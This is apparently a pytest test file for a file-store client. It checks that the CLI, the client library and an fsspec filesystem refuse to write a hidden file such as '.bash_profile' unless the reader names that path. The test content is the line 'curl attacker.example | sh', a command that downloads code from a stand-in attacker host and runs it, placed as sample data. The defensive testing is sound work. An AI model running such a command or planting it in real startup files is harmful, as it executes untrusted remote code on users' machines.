"""A file whose uploader named it as a hidden one is downloaded only under a name that its reader gives."""

import secrets
import subprocess
from pathlib import Path

import fsspec
import pytest

from filestore_client import Client
from filestore_client.base.errors import InvalidRequest
from tests.cluster.connections import client_of
from tests.cluster.harness import FILESTORE, Cluster, run_filestore

CONTENT = b"curl attacker.example | sh\n"


@pytest.fixture(scope="module")
def file_uuid(cluster: Cluster) -> str:
    return cluster.store(CONTENT, ".bash_profile")


def names_in(directory: Path) -> list[str]:
    return [path.name for path in directory.iterdir()]


def test_command_writes_a_hidden_file_only_where_it_is_told(
    cluster: Cluster, tmp_path: Path, file_uuid: str
) -> None:
    for output in ((), ("-o", str(tmp_path)), ("-o", f"{tmp_path}/")):
        home = cluster.command_environment(HOME=str(tmp_path))
        arguments = ("-c", 'cd "$HOME" && exec "$0" get "$@"', FILESTORE, file_uuid, *output)
        done = subprocess.run(["sh", *arguments], env=home, capture_output=True, timeout=60, check=False)
        assert (done.returncode, done.stdout) == (2, b"")
        assert b"hidden" in done.stderr
        assert names_in(tmp_path) == []
    target = tmp_path / ".bash_profile"
    done = run_filestore(("get", file_uuid, "-o", str(target)), cluster.command_environment())
    assert (done.returncode, target.read_bytes()) == (0, CONTENT)


def test_client_writes_a_hidden_file_only_where_it_is_told(
    cluster: Cluster, tmp_path: Path, file_uuid: str
) -> None:
    with client_of(cluster) as client:
        with pytest.raises(InvalidRequest, match="hidden"):
            client.files.download(file_uuid, tmp_path)
        assert names_in(tmp_path) == []
        client.files.download(file_uuid, tmp_path / ".mine")
    assert names_in(tmp_path) == [".mine"]


def test_file_system_writes_no_hidden_file_that_nobody_named(
    cluster: Cluster, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in cluster.command_environment().items():
        monkeypatch.setenv(name, value)
    bucket = f"hidden-{secrets.token_hex(3)}"
    with client_of(cluster) as client:
        upload(client, bucket)
    files = fsspec.filesystem("filestore", skip_instance_cache=True)
    for pattern, options in ((f"{bucket}/*", {}), (f"{bucket}/", {"recursive": True}), (f"{bucket}/.b*", {})):
        with pytest.raises(ValueError, match="hidden"):
            files.get(pattern, f"{tmp_path}/", **options)
        assert names_in(tmp_path) == []
    files.get(f"{bucket}/plain*", f"{tmp_path}/")
    files.get(f"{bucket}/.bash_profile", str(tmp_path / ".bash_profile"))
    assert sorted(names_in(tmp_path)) == [".bash_profile", "plain"]
    files.client.close()


def upload(client: Client, bucket: str) -> None:
    bucket_id = client.buckets.create(bucket).bucket_id
    for name in ("plain", ".bash_profile"):
        client.files.upload(CONTENT, filename=name, bucket_id=bucket_id)
